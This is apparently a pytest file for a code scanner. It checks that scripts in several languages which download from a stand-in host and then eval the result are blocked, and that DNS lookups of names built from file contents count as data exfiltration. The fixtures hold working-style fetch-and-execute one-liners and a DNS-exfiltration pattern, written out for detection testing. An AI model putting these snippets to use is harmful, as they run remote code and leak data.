"""What an address answers and is then run, and names that are looked up, in several languages."""

import pytest
from scan_corpus import Scan

BLOCKING = ("high", "critical")
RUNS = {
    "ruby": ("x.rb", "src = Net::HTTP.get(URI('https://m.example.net/c'))\nTOPLEVEL_BINDING.eval(src)\n"),
    "powershell": ("x.ps1", "$c = $w.DownloadString('https://m.example.net/c')\n$c | Out-Null\niex $c\n"),
    "powershell block": ("x.ps1", "$c = irm https://m.example.net/c\n& ([scriptblock]::Create($c))\n"),
    "php": ("x.php", "<?php\n$p = file_get_contents('https://m.example.net/c');\neval($p);\n"),
    "lua": ("x.lua", "local b = http.request('https://m.example.net/c')\nloadstring(b)()\n"),
}
READS = {
    "ruby": ("x.rb", "body = Net::HTTP.get(URI('https://m.example.net/c'))\nputs JSON.parse(body)\n"),
    "powershell": ("x.ps1", "$r = Invoke-RestMethod https://m.example.net/c\n$r.items | Format-Table\n"),
    "another name": ("x.rb", "body = Net::HTTP.get(URI('https://m.example.net/c'))\nbinding.eval(own)\n"),
}
NAMES = (
    "import socket, sys\nfor line in open(sys.argv[1]):\n    host = {host}\n    socket.gethostbyname(host)\n"
)


def blocked(scan: Scan, name: str, text: str) -> bool:
    return any(each.severity in BLOCKING for each in scan({f"scripts/{name}": text}))


@pytest.mark.parametrize("case", list(RUNS))
def test_a_script_that_runs_what_it_loads_is_blocked(case: str, scan: Scan) -> None:
    assert blocked(scan, *RUNS[case])


@pytest.mark.parametrize("case", list(READS))
def test_a_script_that_reads_what_it_loads_is_not(case: str, scan: Scan) -> None:
    assert not blocked(scan, *READS[case])


@pytest.mark.parametrize(
    ("host", "blocks"),
    [
        ("line.strip()", False),
        ("line.strip() + '.t.example.net'", True),
        ("f'{line}.t.example.net'", True),
        ("line.encode().hex()", True),
    ],
)
def test_to_look_up_a_list_of_names_is_no_transfer_but_names_made_of_data_are(
    host: str, blocks: bool, scan: Scan
) -> None:
    assert blocked(scan, "x.py", NAMES.format(host=host)) is blocks
